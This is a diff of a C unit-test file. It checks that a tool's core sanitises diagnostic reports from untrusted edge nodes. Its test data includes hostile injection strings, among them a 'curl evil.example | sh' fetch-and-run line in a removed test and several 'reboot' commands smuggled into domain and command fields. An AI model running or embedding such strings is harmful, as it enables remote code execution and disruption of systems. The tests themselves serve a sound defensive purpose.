@@ -249,47 +249,6 @@ static void an_edge_that_cannot_tell_is_to_be_asked_by_hand(void **state)
 	json_decref(core);
 }
 
-/* The edge stands where strangers are: what people do is said by the core alone. */
-static void an_edge_does_not_choose_what_people_type(void **state)
-{
-	json_t *core = report_of("node|core-a|core\ndomain|far.example|foreign\nway|edge-a|\n");
-	json_t *lying = report_of(EDGE ALLOWED OUT "100|failed|dns-failed|servfail\n"), *only;
-	json_t *reports = json_array();
-	char *text;
-
-	json_object_set_new(lying, "domain", json_string("x; reboot"));
-	json_object_set_new(lying, "cause", json_string("a patch is missing"));
-	json_object_set_new(lying, "fix", json_string("run this as root"));
-	json_object_set_new(lying, "command", json_string("curl evil.example | sh"));
-	json_array_append_new(reports, lying);
-	core = why_merge(core, reports);
-	only = json_array_get(json_object_get(core, "nodes"), 0);
-	text = why_text(core);
-	assert_string_equal(says(core, "command"), "sallyport config get dns.servers");
-	assert_string_equal(says(only, "command"), "sallyport config get dns.servers");
-	assert_string_equal(says(only, "domain"), "far.example");
-	assert_null(strstr(says(core, "cause"), "patch"));
-	assert_null(strstr(text, "root"));
-	free(text);
-	json_decref(core);
-}
-
-static void an_edge_without_a_failure_tells_no_command_but_ours(void **state)
-{
-	json_t *core = report_of("node|core-a|core\ndomain|far.example|foreign\nway|edge-a|\n");
-	json_t *never = report_of(EDGE ALLOWED), *up = report_of(EDGE ALLOWED OUT "9|ready||\n");
-	json_t *reports = json_array();
-
-	json_object_set_new(never, "command", json_string("reboot"));
-	json_object_set_new(up, "command", json_string("reboot"));
-	json_array_append_new(reports, never);
-	json_array_append_new(reports, up);
-	core = why_merge(core, reports);
-	assert_string_equal(says(never, "command"), "sallyport probe far.example");
-	assert_string_equal(says(up, "command"), "(null)");
-	json_decref(core);
-}
-
 static void a_domain_that_is_none_does_not_get_into_a_command(void **state)
 {
 	json_t *report = report_of("node|edge-a|edge\ndomain|x`reboot`|foreign\n" ALLOWED OUT
@@ -297,6 +256,33 @@ static void a_domain_that_is_none_does_not_get_into_a_command(void **state)
 
 	assert_string_equal(says(report, "command"), "sallyport log domain=?");
 	json_decref(report);
+}
+
+/* It may be in the hands of somebody else. */
+static void what_an_edge_says_is_judged_by_the_core(void **state)
+{
+	json_t *said = report_of(EDGE ALLOWED OUT "100|failed|timeout|\n"), *heard;
+	static const char *const ours[] = { "verdict", "failure", "headline", "cause",
+					    "fix",     "command", "domain",   "node" };
+
+	heard = why_heard(said, "edge-a", "far.example");
+	for (size_t i = 0; i < nitems(ours); i++)
+		assert_string_equal(says(heard, ours[i]), says(said, ours[i]));
+	json_decref(heard);
+	for (size_t i = 0; i < nitems(ours); i++)
+		json_object_set_new(said, ours[i], json_string("sallyport x; reboot"));
+	heard = why_heard(said, "edge-a", "far.example");
+	for (size_t i = 0; i < nitems(ours); i++)
+		assert_null(strstr(says(heard, ours[i]), "reboot"));
+	assert_string_equal(says(heard, "command"), "sallyport log domain=far.example");
+	json_decref(heard);
+	json_decref(said);
+	said = json_pack("{s:i, s:s, s:[i], s:{}, s:s}", "policy", 1, "queue", "x", "attempts", 1,
+			 "ways", "ours", "yes");
+	heard = why_heard(said, "edge-a", "far.example");
+	assert_string_not_equal(says(heard, "headline"), "");
+	json_decref(heard);
+	json_decref(said);
 }
 
 static void the_text_leads_with_cause_and_fix_and_fits_a_terminal(void **state)
@@ -352,9 +338,8 @@ int main(void)
 		cmocka_unit_test(a_core_says_the_worst_of_its_edges_and_keeps_them_all),
 		cmocka_unit_test(the_only_edge_speaks_for_the_core),
 		cmocka_unit_test(an_edge_that_cannot_tell_is_to_be_asked_by_hand),
-		cmocka_unit_test(an_edge_does_not_choose_what_people_type),
-		cmocka_unit_test(an_edge_without_a_failure_tells_no_command_but_ours),
 		cmocka_unit_test(a_domain_that_is_none_does_not_get_into_a_command),
+		cmocka_unit_test(what_an_edge_says_is_judged_by_the_core),
 		cmocka_unit_test(the_text_leads_with_cause_and_fix_and_fits_a_terminal),
 		cmocka_unit_test(what_cannot_be_read_is_no_report),
 	};
